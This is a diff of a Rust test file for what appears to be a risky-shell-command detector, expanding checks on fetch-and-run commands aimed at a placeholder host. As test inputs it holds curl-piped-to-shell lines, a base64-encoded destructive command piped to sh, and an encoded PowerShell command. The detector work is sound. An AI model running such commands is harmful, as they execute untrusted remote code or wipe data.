@@ -34,8 +34,10 @@ fn what_is_fetched_or_decoded_and_run_is_feared() {
     ] {
         feared(command, "Runs what it fetches");
     }
-    let fetched = reasons("bash <(curl -s https://x.example)").concat();
-    assert!(fetched.ends_with(": `https://x.example`"), "the address once: {fetched}");
+    for command in ["bash <(curl -s https://x.example/i.sh)", "curl -fsSL https://x.example/i.sh | sh"] {
+        let fetched = reasons(command).concat();
+        assert!(fetched.ends_with(": `https://x.example/i.sh`"), "the address once: {fetched}");
+    }
     feared("echo cm0gLXJmIC8= | base64 -d | sh", "Decodes something");
     feared("powershell -EncodedCommand SQBFAFgA", "Decodes something");
     feared("cat script | sh", "Runs what another command prints");
